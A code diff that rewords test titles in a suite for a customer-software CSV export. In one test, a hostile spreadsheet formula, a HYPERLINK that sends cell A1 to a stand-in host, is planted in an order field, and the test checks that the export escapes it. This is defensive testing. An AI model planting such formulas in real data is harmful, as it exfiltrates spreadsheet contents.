@@ -14,7 +14,7 @@ describe('the software of a customer as a table', () => {
 
   const ofSoftware = async (id: string) => (await desk.lines()).filter(({ softwareId }) => softwareId === id);
 
-  it('is found by the id of the customer with what was pasted around it', async () => {
+  it('is found by the id of the customer, even with white space around it', async () => {
     const { id } = desk.world.customer;
     const { body } = await desk.get();
     for (const pasted of [`%20${id}`, `${id}%0A`, `%E2%80%8E${id}%C2%A0`]) {
@@ -58,7 +58,7 @@ describe('the software of a customer as a table', () => {
     ]);
   });
 
-  it('tells every round of a link, and where each stands now', async () => {
+  it('has every round of a link with its current status', async () => {
     const { softwareId, customer, orderId } = desk.world;
     const admin = desk.as('ADMIN_AGENT');
     desk.clock.advance(14 * DAY_MS);
@@ -77,7 +77,7 @@ describe('the software of a customer as a table', () => {
     ]);
   });
 
-  it('has no key and nothing that opens a link in it', async () => {
+  it('contains no key and no link URL', async () => {
     const { node } = await desk
       .as('ADMIN_AGENT')
       .query(
@@ -90,7 +90,7 @@ describe('the software of a customer as a table', () => {
     expect(body).not.toMatch(/https?:/);
   });
 
-  it('is saved under the customer’s domain, and kept by no cache', async () => {
+  it('is saved under the domain of the customer, and not cached', async () => {
     const { headers } = await desk.get();
     expect(headers).toMatchObject({
       'content-type': 'text/csv; charset=utf-8; header=present',
@@ -100,7 +100,7 @@ describe('the software of a customer as a table', () => {
     });
   });
 
-  it('runs nothing in a spreadsheet, whatever an order was called', async () => {
+  it('runs no formula in a spreadsheet, regardless of purchase order numbers', async () => {
     const formula = `=HYPERLINK("http://x.example?"&A1,"Order, ""open""")`;
     await desk.gateway.database.transaction((tx) =>
       tx.query(sql`UPDATE "orders" SET "purchaseOrderNumber" = ${formula}`),
@@ -108,7 +108,7 @@ describe('the software of a customer as a table', () => {
     for (const line of await desk.lines()) expect(line.purchaseOrderNumber).toBe(`'${formula}`);
   });
 
-  it('has all software once, in its order, in three statements for each page', async () => {
+  it('has all software once and in order, with three statements per page', async () => {
     await desk.sellMore(450);
     let lines: ExportDesk['lines'] extends () => Promise<infer Lines> ? Lines : never = [];
     const statements = await statementsOf(async () => {
@@ -118,11 +118,11 @@ describe('the software of a customer as a table', () => {
     expect(new Set(lines.map(({ softwareId }) => softwareId)).size).toBe(452);
     const times = lines.map(({ purchasedAt }) => purchasedAt);
     expect(times).toEqual([...times].sort());
-    // The customer, how much software it has, and three for the audit trail; then the pages.
+    // One for the customer, one for the amount of software, three for the audit trail; then the pages.
     expect(statements).toHaveLength(2 + 3 + 3 * 3);
   });
 
-  it('is empty but for its header where nothing was bought', async () => {
+  it('has only the header if nothing was bought', async () => {
     const { id } = await desk.make.customer();
     const { body } = await desk.get(id);
     expect(body).toMatch(/^softwareId,product,[\w,]+\r\n$/);
